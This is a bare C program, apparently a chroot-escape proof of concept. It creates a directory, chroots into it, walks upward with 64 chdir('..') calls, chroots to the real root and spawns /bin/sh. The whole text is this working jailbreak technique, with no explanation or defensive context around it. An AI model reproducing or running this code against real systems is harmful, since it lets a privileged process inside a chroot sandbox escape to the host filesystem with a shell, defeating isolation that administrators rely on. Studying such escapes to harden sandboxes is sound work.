#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    mkdir("x", 0755);
    chroot("x");
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    return execl("/bin/sh", "sh", (char *)0);
}
